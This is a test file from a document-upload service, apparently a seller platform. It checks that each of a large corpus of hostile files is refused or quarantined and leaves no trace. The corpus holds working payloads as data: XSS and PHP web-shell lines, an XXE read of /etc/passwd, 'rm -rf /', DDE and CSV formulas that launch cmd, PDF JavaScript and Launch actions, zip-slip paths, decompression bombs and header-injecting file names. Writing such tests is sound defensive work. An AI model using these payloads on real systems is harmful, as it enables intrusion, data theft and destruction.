/** Files that somebody sends to do harm: each is refused or put away with a clear answer, and leaves nothing behind. */
import { readdirSync } from 'node:fs';
import { IncomingMessage } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { queryObjects, setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { deflateSync } from 'node:zlib';
import { startTestApp, type TestApp, type TestUser } from '../../../tests/support/app';
import { documentForm, smallPdf, upload } from '../../../tests/support/make-documents';
import {
  docx,
  heicPhoto,
  packedObjects,
  pdfObject,
  pdfStream,
  png,
  testVirus,
  xlsx,
  zip,
  type ZipPart,
} from '../../../tests/support/make-files';
import { succeed } from '../../../tests/support/make-transactions';
import { sized } from '../../../tests/support/size';
import { HOUR_MS } from '../../platform/kernel/clock';
import { stampPdf } from '../../platform/paper/stamp';
import { cleanFileName } from './file-name.rules';
import { createInspect } from './content/inspect';
import { rewriteJpeg } from './content/picture';

const text = (content: string) => Buffer.from(content, 'utf8');
const bytes = (content: string) => Buffer.from(content, 'latin1');
const relations = (relation: string): ZipPart => ({
  name: 'word/_rels/document.xml.rels',
  content: `<Relationships>${relation}</Relationships>`,
});
const outside = (type: string, target = 'https://evil.example/x') =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
const MB = 1024 * 1024;
const zeros = (megabytes: number) => Buffer.alloc(megabytes * MB);

const packedScript = deflateSync(bytes('9 0  << /S /JavaScript /JS (x) >>'));
/** A packed list of objects with JavaScript, written so that a hasty reader does not see that it is one. */
const hiddenList = (dictionary: string, before = '', begins = 'stream') =>
  pdfObject(`<< ${dictionary} >>${before}\n${begins}\n${packedScript.toString('latin1')}\nendstream`);

const UNSUPPORTED = 'document_unsupported';
const DAMAGED = 'document_damaged';
const UNSAFE = 'document_unsafe';
const LOCKED = 'document_locked';
const QUARANTINED = 'QUARANTINED';

let jpeg: Buffer;

/** Name, what is sent, and what is answered: the code of a refusal, or quarantine. */
const CORPUS: readonly [name: string, made: () => Buffer, answer: string][] = [
  ['nothing at all', () => Buffer.alloc(0), DAMAGED],
  ['a page', () => text('<!DOCTYPE html><script>alert(1)</script>'), UNSUPPORTED],
  ['a page behind a byte order mark', () => text('\ufeff  <html><body onload=alert(1)>'), UNSUPPORTED],
  ['a page behind words', () => text('Dear seller,\n<script src=//evil.example></script>'), UNSUPPORTED],
  ['a page in UTF-16', () => Buffer.from('\ufeff<html><script>alert(1)</script>', 'utf16le'), UNSUPPORTED],
  [
    'an SVG with a script',
    () => text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    UNSUPPORTED,
  ],
  [
    'XML with an entity',
    () => text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    UNSUPPORTED,
  ],
  ['PHP', () => text('<?php system($_GET["c"]); ?>'), UNSUPPORTED],
  ['PHP behind words', () => text('A letter.\n<?php system("id"); ?>'), UNSUPPORTED],
  ['a shell script', () => text('#!/bin/sh\nrm -rf /\n'), UNSUPPORTED],
  ['a program of Windows', () => bytes('MZ\x90\0\x03\0\0\0'), UNSUPPORTED],
  ['a program of Linux', () => bytes('\x7fELF\x02\x01\x01\0'), UNSUPPORTED],
  ['a Java class', () => bytes('\xca\xfe\xba\xbe\0\0\x004'), UNSUPPORTED],
  ['an old Office file', () => bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), UNSUPPORTED],
  ['RTF', () => text('{\\rtf1{\\object\\objdata 0105}}'), UNSUPPORTED],
  ['PostScript', () => text('%!PS-Adobe-3.0\n(/etc/passwd) run'), UNSUPPORTED],
  ['a GIF', () => bytes('GIF89a\x01\0\x01\0\0\0\0;'), UNSUPPORTED],
  ['a GIF that is JavaScript', () => text('GIF89a=1;alert(1)'), UNSUPPORTED],
  ['a BMP', () => bytes('BM\x3a\0\0\0\0\0\0\0'), UNSUPPORTED],
  ['a TIFF', () => bytes('II*\0\x08\0\0\0'), UNSUPPORTED],
  ['a WebP', () => bytes('RIFF\x1a\0\0\0WEBPVP8L'), UNSUPPORTED],
  ['a video', () => bytes('\0\0\0\x18ftypmp42\0\0\0\0'), UNSUPPORTED],
  ['a RAR', () => bytes('Rar!\x1a\x07\0'), UNSUPPORTED],
  ['a 7z', () => bytes('7z\xbc\xaf\x27\x1c\0\x04'), UNSUPPORTED],
  ['a gzip', () => bytes('\x1f\x8b\x08\0\0\0\0\0'), UNSUPPORTED],
  ['bytes of no kind', () => Buffer.from(Array.from({ length: 256 }, (_, at) => at)), UNSUPPORTED],
  ['text with a NUL', () => text('A letter.\0 And more.'), UNSUPPORTED],
  ['text with an escape of a terminal', () => text('A letter.\u001b[2J'), UNSUPPORTED],
  ['a table with a formula', () => text('name,total\nA,=SUM(A1:A9)\n'), UNSAFE],
  ['a table that starts a program', () => text("name,total\nA,=cmd|'/C calc'!A0\n"), UNSAFE],
  [
    'a table with a formula behind a plus',
    () => text('name;total\nA;+HYPERLINK("http://evil.example")\n'),
    UNSAFE,
  ],
  ['a table with a formula behind an at sign', () => text('a\tb\n1\t@SUM(1)\n'), UNSAFE],
  ['a table with a program behind a number', () => text("a,b\n1,-2+3+cmd|' /C calc'!E14\n"), UNSAFE],
  ['a table that reckons on to a call', () => text('a,b\n1,+1+HYPERLINK("https://evil.example")\n'), UNSAFE],
  ['a table with a formula in wide letters', () => text('a,b\n1,＝SUM(A1:A9)\n'), UNSAFE],
  ['words with a PDF in them', () => text(`Dear seller,\n${smallPdf().toString()}`), UNSAFE],
  ['the test virus', testVirus, UNSAFE],
  ['the test virus in a PDF', () => pdfStream('', testVirus()), UNSAFE],
  ['the test virus in a DOCX', () => docx([{ name: 'word/media/a.txt', content: testVirus() }]), UNSAFE],

  ['a ZIP', () => zip([{ name: 'a.txt', content: 'A' }]), UNSUPPORTED],
  ['an empty ZIP', () => bytes(`PK\x05\x06${'\0'.repeat(18)}`), UNSUPPORTED],
  [
    'a ZIP that says it is a DOCX and has no document',
    () =>
      zip([{ name: '[Content_Types].xml', content: '<Types>wordprocessingml.document.main+xml</Types>' }]),
    UNSUPPORTED,
  ],
  [
    'a DOCX that unpacks to two hundred megabytes',
    () => docx([{ name: 'word/media/a.bin', content: zeros(200) }]),
    UNSAFE,
  ],
  [
    'a DOCX that unpacks to a thousand times its size',
    () => docx([{ name: 'word/a.xml', content: zeros(8) }]),
    UNSAFE,
  ],
  [
    'a DOCX that lies about the size of a part',
    () => docx([{ name: 'word/a.xml', content: zeros(1), declaredBytes: 10 }]),
    DAMAGED,
  ],
  [
    'a DOCX of ten thousand parts',
    () => docx(Array.from({ length: 10_000 }, (_, at) => ({ name: `word/${at}`, content: '' }))),
    UNSAFE,
  ],
  [
    'a DOCX with a way out of its folder',
    () => docx([{ name: '../../etc/cron.d/x', content: 'x' }]),
    DAMAGED,
  ],
  ['a DOCX with an absolute path', () => docx([{ name: '/etc/cron.d/x', content: 'x' }]), DAMAGED],
  ['a DOCX with a path of Windows', () => docx([{ name: 'word\\..\\..\\x', content: 'x' }]), DAMAGED],
  ['a locked DOCX', () => docx([{ name: 'word/a.xml', content: 'x', flags: 1 }]), LOCKED],
  ['a DOCX with macros', () => docx([{ name: 'word/vbaProject.bin', content: 'x' }]), UNSAFE],
  [
    'a DOCX whose types say macros',
    () => docx([], '', '<Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
    UNSAFE,
  ],
  ['an XLSX with macros', () => xlsx([{ name: 'xl/vbaProject.bin', content: 'x' }]), UNSAFE],
  [
    'an XLSX with macros of old',
    () => xlsx([{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }]),
    UNSAFE,
  ],
  [
    'an XLSX that runs a program',
    () => xlsx([{ name: 'xl/externalLinks/externalLink1.xml', content: '<ddeLink ddeService="cmd"/>' }]),
    UNSAFE,
  ],
  [
    'an XLSX with a formula that starts a program',
    () => xlsx([{ name: 'xl/worksheets/sheet1.xml', content: "<x:f>cmd|'/C calc'!A0</x:f>" }]),
    UNSAFE,
  ],
  [
    'an XLSX with a formula that fetches a page',
    () =>
      xlsx([
        { name: 'xl/worksheets/sheet1.xml', content: '<f>_xlfn.WEBSERVICE("https://evil.example")</f>' },
      ]),
    UNSAFE,
  ],
  [
    'an XLSX that reads from elsewhere',
    () =>
      xlsx([
        {
          name: 'xl/connections.xml',
          content: '<connections><webPr url="https://evil.example"/></connections>',
        },
      ]),
    UNSAFE,
  ],
  [
    'a DOCX with a page beside it',
    () => docx([{ name: 'word/a.htm', content: '<html><script>alert(1)</script></html>' }]),
    UNSAFE,
  ],
  [
    'a DOCX with a file in it',
    () => docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
    UNSAFE,
  ],
  [
    'a DOCX with a program as a picture',
    () => docx([{ name: 'word/media/image1.png', content: bytes('MZ\x90\0') }]),
    UNSAFE,
  ],
  [
    'a DOCX with an archive as a picture',
    () => docx([{ name: 'word/media/image1.png', content: zip([{ name: 'a', content: 'b' }]) }]),
    UNSAFE,
  ],
  ['a DOCX with a control', () => docx([{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]), UNSAFE],
  ['a DOCX with a template from elsewhere', () => docx([relations(outside('attachedTemplate'))]), UNSAFE],
  [
    'a DOCX with a picture from elsewhere',
    () => docx([relations(outside('image', '\\\\evil.example\\x'))]),
    UNSAFE,
  ],
  [
    'a DOCX that spells that by numbers',
    () => docx([relations(outside('frame').replace('External', '&#69;xtern&#x61;l'))]),
    UNSAFE,
  ],
  [
    'a DOCX with an entity',
    () => docx([{ name: 'word/styles.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }]),
    UNSAFE,
  ],
  [
    'a DOCX that runs a program',
    () => docx([], '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText>'),
    UNSAFE,
  ],
  [
    'a DOCX that names the program in pieces',
    () => docx([], '<x:instrText>DDEA</x:instrText></w:r><w:r><x:instrText>UTO c:\\\\cmd.exe</x:instrText>'),
    UNSAFE,
  ],
  [
    'a DOCX that names the program by numbers',
    () => docx([], '<w:instrText>&#68;&#x44;E cmd</w:instrText>'),
    UNSAFE,
  ],
  [
    'a DOCX that starts a program behind four megabytes',
    () => docx([], `${' '.repeat(4_400_000)}<w:instrText>DDE cmd</w:instrText>`),
    UNSAFE,
  ],
  [
    'a DOCX with a picture that a field fetches',
    () => docx([], '<w:fldSimple w:instr=" INCLUDEPICTURE \\\\evil.example\\x.png "><w:r/></w:fldSimple>'),
    UNSAFE,
  ],
  [
    'a DOCX with a template from elsewhere in a name space of its own',
    () => docx([relations(outside('attachedTemplate').replace('<R', '<p:R'))]),
    UNSAFE,
  ],
  [
    'a DOCX with a template whose address has a bracket',
    () => docx([relations(outside('attachedTemplate', 'https://evil.example/?a>b'))]),
    UNSAFE,
  ],
  [
    'a DOCX with a template whose address says that it is a link',
    () => docx([relations(outside('attachedTemplate', 'https://evil.example/relationships/hyperlink'))]),
    UNSAFE,
  ],
  [
    'a DOCX that takes in a page of its own',
    () =>
      docx([
        { name: 'word/a.mht', content: 'MIME-Version: 1.0' },
        relations(outside('aFChunk', 'a.mht').replace('External', 'Internal')),
      ]),
    UNSAFE,
  ],
  [
    'a DOCX whose types say macros by numbers',
    () => docx([], '', '<Default ContentType="application/vnd.ms-office.vb&#97;Project"/>'),
    UNSAFE,
  ],
  [
    'a DOCX with a part in UTF-16',
    () =>
      docx([
        { name: 'word/footer1.xml', content: Buffer.from('<w:instrText>DDE cmd</w:instrText>', 'utf16le') },
      ]),
    UNSAFE,
  ],
  [
    'a DOCX with a part in an encoding that spells letters in another way',
    () =>
      docx([{ name: 'word/footer1.xml', content: '<?xml version="1.0" encoding="UTF-7"?>+ADw-w:instrText' }]),
    UNSAFE,
  ],
  ['a DOCX that is cut off', () => docx().subarray(0, 300), DAMAGED],
  ['a DOCX with something behind its end', () => Buffer.concat([docx(), text('<script>')]), DAMAGED],

  ['a PDF with JavaScript', () => pdfObject('<< /S /JavaScript /JS (app.alert(1)) >>'), QUARANTINED],
  [
    'a PDF that spells JavaScript by numbers',
    () => pdfObject('<< /S /J#61vaScrip#74 /#4aS (app.alert(1)) >>'),
    QUARANTINED,
  ],
  ['a PDF that starts a program', () => pdfObject('<< /S /Launch /F (cmd.exe) >>'), QUARANTINED],
  ['a PDF with a file in it', () => pdfStream('/Type /EmbeddedFile', 'x'), QUARANTINED],
  ['a PDF with a form that acts', () => pdfObject('<< /AcroForm << /XFA [] >> >>'), QUARANTINED],
  ['a PDF that sends a form', () => pdfObject('<< /S /SubmitForm /F (https://evil.example) >>'), QUARANTINED],
  [
    'a PDF that opens another',
    () => pdfObject('<< /S /GoToR /F (\\\\\\\\evil.example\\\\x.pdf) >>'),
    QUARANTINED,
  ],
  ['a PDF with a film', () => pdfObject('<< /Subtype /RichMedia >>'), QUARANTINED],
  [
    'a PDF that packs JavaScript away',
    () => packedObjects('<< /S /JavaScript /JS (app.alert(1)) >>'),
    QUARANTINED,
  ],
  [
    'a PDF that names its packing by numbers',
    () => packedObjects('<< /S /Launch >>', '/Type /Obj#53tm /N 1 /First 5'),
    QUARANTINED,
  ],
  [
    'a PDF packed in two ways',
    () => pdfStream('/Type /ObjStm /N 1 /First 5 /Filter [/ASCIIHexDecode /FlateDecode]', '00>'),
    QUARANTINED,
  ],
  [
    'a PDF with objects where a stream seems to be',
    () => smallPdf('% >>\nstream\n9 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\nendstream'),
    QUARANTINED,
  ],
  [
    'a PDF whose list says elsewhere what it is',
    () => packedObjects('<< /S /JavaScript /JS (x) >>', '/Type 8 0 R /N 1 /First 5'),
    QUARANTINED,
  ],
  [
    'a PDF whose table is packed in another way',
    () => pdfStream('/Type /XRef /Filter [/ASCIIHexDecode /FlateDecode]', '00>'),
    QUARANTINED,
  ],
  [
    'a PDF with JavaScript where a string seems to begin a stream',
    () => pdfObject('<< /A (>>\nstream\n) /S /JavaScript /JS (x) /B (\nendstream) >>'),
    QUARANTINED,
  ],
  [
    'a PDF with JavaScript where a comment seems to begin a stream',
    () => pdfObject('<< /A 1 %>>stream\n/S /JavaScript /JS (x) %endstream\n>>'),
    QUARANTINED,
  ],
  [
    'a PDF with a stream behind a comment',
    () => hiddenList('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', ' % a stream'),
    QUARANTINED,
  ],
  [
    'a PDF with words behind the word stream',
    () => hiddenList('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', '', 'stream of words'),
    QUARANTINED,
  ],
  [
    'a PDF that says long before what it packs',
    () => hiddenList(`/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /A (${'x'.repeat(5_000)})`),
    QUARANTINED,
  ],
  [
    'a PDF that says in words where an object begins',
    () => hiddenList('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /A (8 0 obj <<)'),
    QUARANTINED,
  ],
  [
    'a PDF with an object inside of an object',
    () => hiddenList('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /A endobj 8 0 obj << >>'),
    QUARANTINED,
  ],
  [
    'a PDF whose string does not end',
    () =>
      smallPdf(
        `8 0 obj\n(\nendobj\n${hiddenList('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode').toString('latin1')}`,
      ),
    QUARANTINED,
  ],
  [
    'a PDF packed twice in the same way',
    () =>
      pdfStream('/Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode]', deflateSync(packedScript)),
    QUARANTINED,
  ],
  [
    'a PDF that says twice how it is packed',
    () => pdfStream('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Filter [/Fl /Fl]', packedScript),
    QUARANTINED,
  ],
  ['a PDF with a model that acts', () => pdfObject('<< /Type /3D /OnInstantiate 8 0 R >>'), QUARANTINED],
  [
    'a PDF whose link is a script',
    () => pdfObject('<< /S /URI /URI (java\\163cript:alert\\(1\\)) >>'),
    QUARANTINED,
  ],
  [
    'a PDF whose link is a file of another machine',
    () => pdfObject(`<< /S /URI /URI <${text('file://evil/x').toString('hex')}> >>`),
    QUARANTINED,
  ],
  ['a PDF of digits alone', () => text(`%PDF-1.4\n${'1'.repeat(1_900_000)}\n%%EOF\n`), DAMAGED],
  [
    'a PDF with an object that does not end',
    () => smallPdf(`8 0 obj\n${'1 0 obj\n'.repeat(160_000)}<< >>\nendobj`),
    UNSAFE,
  ],
  [
    'a PDF that unpacks to a hundred megabytes',
    () => pdfStream('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', deflateSync(zeros(100))),
    UNSAFE,
  ],
  [
    'a PDF whose table unpacks to a hundred megabytes',
    () => pdfStream('/Type /XRef /Filter /FlateDecode', deflateSync(zeros(100))),
    UNSAFE,
  ],
  ['a locked PDF', () => pdfObject('<< /Encrypt 5 0 R >>'), LOCKED],
  ['a PDF that is cut off', () => smallPdf().subarray(0, 150), DAMAGED],
  [
    'a PDF with a broken list of objects',
    () => pdfStream('/Type /ObjStm /Filter /FlateDecode', 'not packed'),
    DAMAGED,
  ],
  [
    'a PDF with an archive behind it',
    () => Buffer.concat([smallPdf(), zip([{ name: 'a', content: 'b' }])]),
    UNSAFE,
  ],
  [
    'a PDF with a script behind it',
    () => Buffer.concat([smallPdf(), text('<script>alert(1)</script>')]),
    UNSAFE,
  ],
  [
    'a long PDF with words behind it',
    () => Buffer.concat([smallPdf(`% ${'x'.repeat(9_000)}`), text('More.')]),
    DAMAGED,
  ],
  [
    'a PDF that is a page',
    () => text(`%PDF-1.4\n<html><script>alert(1)</script>\n${smallPdf().toString()}`),
    UNSAFE,
  ],
  ['a PDF with nothing in it', () => text('%PDF-1.4\n%%EOF\n'), DAMAGED],

  ['a PNG of four thousand million pixels', () => png(65_000, 65_000), DAMAGED],
  ['a PNG that is cut off', () => png().subarray(0, 40), DAMAGED],
  ['a PNG with a page in it', () => png(8, 8, [['tEXt', text('x\0<script>alert(1)</script>')]]), UNSAFE],
  [
    'a PNG with an archive behind it',
    () => Buffer.concat([png(), zip([{ name: 'a', content: 'b' }])]),
    UNSAFE,
  ],
  [
    'a JPEG with an archive behind it',
    () => Buffer.concat([jpeg, zip([{ name: 'a', content: 'b' }])]),
    UNSAFE,
  ],
  ['a JPEG with a PDF behind it', () => Buffer.concat([jpeg, smallPdf()]), UNSAFE],
  ['a JPEG with PHP behind it', () => Buffer.concat([jpeg, text('<?php system("id"); ?>')]), UNSAFE],
  ['a JPEG of three bytes', () => bytes('\xff\xd8\xff'), DAMAGED],
  ['a HEIC of nothing', () => bytes('\0\0\0\x18ftypheic\0\0\0\0heicmif1'), DAMAGED],
  ['a HEIC that is cut off', () => heicPhoto().subarray(0, 600), DAMAGED],
];

const HUGE = Buffer.alloc(2 * 1024 * 1024 + 1, 0x41);

describe('hostile files', () => {
  let app: TestApp;
  let person: TestUser;
  let filesFolder: string;
  const temporaryBefore = new Set(readdirSync(tmpdir()));

  beforeAll(async () => {
    jpeg = await rewriteJpeg({ data: new Uint8Array(16 * 16 * 4).fill(0x80), width: 16, height: 16 });
    app = await startTestApp({ environment: { DOCUMENT_MAX_MB: '2' } });
    person = await app.make.seller();
    filesFolder = join(app.config.DATA_FOLDER, 'files');
  });
  afterAll(() => app.close());

  const storedFiles = (): string[] => {
    try {
      return readdirSync(filesFolder, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map(({ name }) => name);
    } catch {
      return [];
    }
  };
  const rows = async () =>
    (await app.platform.database.select<{ id: string }>("SELECT id FROM documents WHERE status <> 'DELETED'"))
      .length;
  async function expectNothingLeft(): Promise<void> {
    await app.later(HOUR_MS + 60_000);
    expect([storedFiles(), await rows()]).toEqual([[], 0]);
    const others = readdirSync(tmpdir()).filter(
      (name) => !temporaryBefore.has(name) && !/^(?:jest|mc-exchange|node)/.test(name),
    );
    expect(others.filter((name) => /upload|multer|vips|heif|magick/i.test(name))).toEqual([]);
  }

  it(`are ${CORPUS.length + 12} here, of every kind`, () => {
    expect(CORPUS.length).toBeGreaterThan(60);
    expect(new Set(CORPUS.map(([name]) => name)).size).toBe(CORPUS.length);
  });

  it.each(CORPUS)('%s', async (_, made, answer) => {
    // Every name promises something else: nothing is believed.
    const sent = await upload(person, { content: made(), name: 'certificate.pdf' });
    if (answer !== QUARANTINED) {
      expect([sent.status, sent.body.code]).toEqual([422, answer]);
      expect(sent.body.detail).toMatch(/[.]$/);
      expect(await rows()).toBe(0);
      return;
    }
    expect(sent.status).toBe(201);
    expect(sent.body.message).toMatch(/quarantine/);
    const { id, quarantine } = sent.body.data;
    expect(quarantine.reason).toBe('ACTIVE_CONTENT');
    expect((await person.get(`/documents/${id}/download`)).body.code).toBe('document_quarantined');
    await succeed(person.delete(`/documents/${id}`));
  });

  it('leave nothing behind, in the file store, on the disk or in the database', expectNothingLeft);

  it('are refused by the form where they are too large, too many, or no form', async () => {
    expect((await app.anonymous.get('/config')).body.data.documentMaxMb).toBe(2);
    const tooLarge = await upload(person, { content: HUGE });
    const twice = documentForm();
    twice.append('file', new Blob(['second']), 'second.pdf');
    const elsewhere = documentForm();
    elsewhere.append('other', new Blob(['second']), 'second.pdf');
    const manyFields = documentForm();
    for (let count = 0; count < 30; count += 1) manyFields.append(`field${count}`, 'x');
    const longField = documentForm({ title: 'x'.repeat(20_000) });
    const longName = documentForm();
    longName.append('x'.repeat(2_000), 'x');
    const unknown = documentForm();
    unknown.append('ownerId', person.id);
    const nested = documentForm();
    nested.append('a[b][c]', 'x');
    const pollution = documentForm();
    pollution.append('__proto__[admin]', 'true');
    const noFile = new FormData();
    noFile.append('type', 'OTHER');
    const answers = [];
    for (const form of [
      twice,
      elsewhere,
      manyFields,
      longField,
      longName,
      unknown,
      nested,
      pollution,
      noFile,
    ]) {
      const { status } = await person.send('post', '/documents', form);
      answers.push(status);
    }
    expect([tooLarge.status, ...answers]).toEqual([413, 400, 400, 400, 413, 400, 400, 400, 400, 400]);
    const cut = { 'content-type': 'multipart/form-data; boundary=x' };
    for (const body of [
      '--x\r\nbroken',
      '',
      `--x\r\n${'A: b\r\n'.repeat(5_000)}\r\n\r\n--x--`,
      '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.4',
    ]) {
      expect((await person.send('post', '/documents', body, cut)).status).toBe(400);
    }
    expect((await person.post('/documents', { file: 'x' })).status).toBe(415);
    await expectNothingLeft();
  });

  it('cannot make headers, paths or another kind of file of their names', async () => {
    const names = [
      '../../../etc/passwd',
      '..\\..\\windows\\system32\\cmd.exe',
      '/etc/passwd.pdf',
      'a.pdf\r\nSet-Cookie: session=1\r\n\r\n<script>',
      'a.pdf%0d%0aX-Evil: 1',
      'invoice\u202efdp.exe',
      'CON',
      '.htaccess',
      "a\".pdf; filename*=UTF-8''evil.exe",
      '\u200b\u200b',
      `${'a'.repeat(500)}.pdf`,
      "O'Brien & Söhne (2026) — Việt, Ελλάδα, Київ.pdf.exe",
    ];
    for (const name of names) {
      const { body } = await succeed(upload(person, { name }));
      const { id, fileName } = body.data;
      // eslint-disable-next-line no-control-regex
      expect(fileName).not.toMatch(/[\0-\x1f\x7f/\\"<>|:*?;%\u200b\u202e]|^\.|\.exe/);
      expect(fileName).toMatch(/^[^.].*\.pdf$/);
      expect([...fileName].length).toBeLessThanOrEqual(124);
      const file = await person.get(`/documents/${id}/download`);
      expect(file.headers.get('set-cookie')).toBeNull();
      expect(file.headers.get('x-evil')).toBeNull();
      expect(file.headers.get('content-disposition')).toMatch(
        /^attachment; filename="[\w.-]+"(?:; filename\*=UTF-8''[\w.%~-]+)?$/,
      );
      await succeed(person.delete(`/documents/${id}`));
    }
    // A header with a NUL is none.
    expect((await upload(person, { name: '/etc/passwd\0.pdf' })).status).toBe(400);
    expect(cleanFileName(names.at(-1) ?? '', 'pdf')).toBe("O'Brien & Söhne (2026) — Việt, Ελλάδα, Київ.pdf");
    expect(cleanFileName('Smith Trucking Inc.2025.PDF', 'pdf')).toBe('Smith Trucking Inc.2025.pdf');
    expect(cleanFileName('A.Smith.docx', 'docx')).toBe('A.Smith.docx');
    await expectNothingLeft();
  });

  it('hide nothing in pictures, which are written anew', async () => {
    const place = text('GPS 41.2565 N, secret place');
    const withPlace = png(8, 8, [
      ['tEXt', place],
      ['eXIf', Buffer.concat([bytes('MM\0*'), place])],
    ]);
    const exif = Buffer.concat([bytes('Exif\0\0MM\0*\0\0\0\x08\0\0\0\0'), place]);
    const length = Buffer.alloc(2);
    length.writeUInt16BE(exif.length + 2);
    const photo = Buffer.concat([
      jpeg.subarray(0, 2),
      bytes('\xff\xe1'),
      length,
      exif,
      jpeg.subarray(2),
      bytes('behind the end'),
    ]);
    for (const [content, mediaType] of [
      [withPlace, 'image/png'],
      [photo, 'image/jpeg'],
      [heicPhoto(), 'image/jpeg'],
    ] as const) {
      const { body } = await succeed(
        upload(person, { content, type: 'EQUIPMENT_PHOTO', name: 'IMG_0001.HEIC' }),
      );
      expect(body.data.mediaType).toBe(mediaType);
      const file = (await person.get(`/documents/${body.data.id}/download`)).bytes;
      for (const hidden of ['secret', 'Exif', 'behind']) expect(file.includes(hidden)).toBe(false);
      await succeed(person.delete(`/documents/${body.data.id}`));
    }
    await expectNothingLeft();
  });

  it('are told from what people do send', async () => {
    const good: readonly [Buffer, string][] = [
      [smallPdf(), 'pdf'],
      [packedObjects('<< /Type /Annot /A << /S /URI /URI (https://mcx.example.com) >> >>'), 'pdf'],
      [pdfStream('', 'BT (JavaScript and /JS in words) Tj ET'), 'pdf'],
      [pdfObject('<< /OpenAction [3 0 R /Fit] >>'), 'pdf'],
      [
        pdfObject(
          '<< /S /URI /URI (mailto:a@example.com) /B << /S /URI /URI (www.example.com/\\(a\\)) >> >>',
        ),
        'pdf',
      ],
      [pdfStream('/Title (The stream \\(obj\\) of life) /ID <41> % a comment\n', 'BT ET'), 'pdf'],
      [pdfStream(`/Names [${'<41> '.repeat(2_000)}] /Filter [/FlateDecode]`, deflateSync(text('BT'))), 'pdf'],
      [jpeg, 'jpeg'],
      [png(), 'png'],
      [docx([relations(outside('hyperlink'))]), 'docx'],
      [docx([{ name: 'word/media/image1.png', content: png() }]), 'docx'],
      [docx([], '<w:instrText> HYPERLINK "https://mcx.example.com/link" </w:instrText>'), 'docx'],
      [docx([], '<w:fldChar/><w:instrText> PAGE </w:instrText><w:fldSimple w:instr=" NUMPAGES "/>'), 'docx'],
      [docx([{ name: 'word/a.xml', content: '\ufeff<?xml version="1.0" encoding="utf-8"?><a/>' }]), 'docx'],
      [xlsx(), 'xlsx'],
      [
        xlsx([{ name: 'xl/worksheets/sheet1.xml', content: '<f>SUM(A1:A9)&amp;"a|b"</f><f>RECALL(1)</f>' }]),
        'xlsx',
      ],
      [text('unit,year,miles\n12,2019,"410,000"\n14,2020,380000\n'), 'csv'],
      [text('name;balance\nA;-12.50\nB;+3\n'), 'csv'],
      [text('name,phone,change\nA,+1-402-555-0177 (office),-1.50 (net)\n'), 'csv'],
      [bytes('name,city\nM\xfcller,K\xf6ln\nA,B\n'), 'csv'],
      [Buffer.from('\ufeffunit\tyear\n1\t2019\n', 'utf16le'), 'csv'],
      [text('We release all claims < $5,000 & close the account.\nSigned: J. Doe'), 'txt'],
    ];
    for (const [content, kind] of good) {
      const { body } = await succeed(upload(person, { content, name: 'x' }));
      expect([kind, body.data.kind, body.data.status]).toEqual([kind, kind, 'AVAILABLE']);
      await succeed(person.delete(`/documents/${body.data.id}`));
    }
    await expectNothingLeft();
  });

  it('are looked through in one go, however often they begin the same thing anew', async () => {
    for (const content of [
      docx([relations('<Relationship '.repeat(300_000))]),
      docx([], '<w:instrText '.repeat(300_000)),
      docx([], '<w:fldSimple '.repeat(300_000)),
    ]) {
      const { body } = await succeed(upload(person, { content, name: 'x' }));
      await succeed(person.delete(`/documents/${body.data.id}`));
    }
  });

  it('let requests be answered while they are looked through and written on', async () => {
    // Lists of numbers take the library that opens them a second, in one go.
    const numbers = `[${'1 '.repeat(100_000)}]`;
    const content = pdfObject(Array.from({ length: 7 }, () => numbers).join('\nendobj\n9 0 obj\n'));
    /** How many requests are answered until then. */
    async function answeredDuring(work: Promise<unknown>): Promise<number> {
      let answered = 0;
      let done = false;
      const end = work.finally(() => (done = true));
      while (!done) {
        expect((await fetch(`${app.url}/api/health/live`)).status).toBe(200);
        answered += 1;
      }
      await end;
      return answered;
    }
    // However long it takes on a machine that is busy.
    const inspect = createInspect(10 * 60_000);
    await inspect(smallPdf());
    await stampPdf(smallPdf(), 'words');
    expect(await answeredDuring(inspect(content))).toBeGreaterThan(5);
    expect(await answeredDuring(stampPdf(content, 'words'))).toBeGreaterThan(5);
  });

  it('are refused where they take for ever', async () => {
    for (const content of [smallPdf(), docx(), text('words')]) {
      await expect(createInspect(0)(content)).rejects.toMatchObject({ code: UNSAFE });
    }
  });

  it('leak no file, no descriptor and no memory when they are cut half-way', async () => {
    const { port } = new URL(app.url);
    const token = String(
      (await succeed(app.anonymous.post('/auth/login', { email: person.email, password: person.password })))
        .body.data.accessToken,
    );
    setFlagsFromString('--expose_gc');
    const collectGarbage = runInNewContext('gc') as () => void;
    /** What is still reached: objects, and the bytes of files beside them. */
    const memoryBytes = async () => {
      for (let round = 0; round < 4; round += 1) {
        collectGarbage();
        await new Promise(setImmediate);
      }
      const { heapUsed, external } = process.memoryUsage();
      return heapUsed + external;
    };
    /** Once the server has noticed that they are gone. */
    const settled = async () => {
      for (let open = Infinity; open > 5;) {
        open = await new Promise<number>((resolve) =>
          app.app.server.getConnections((_error, count) => resolve(count)),
        );
        await new Promise(setImmediate);
      }
      return {
        memoryBytes: await memoryBytes(),
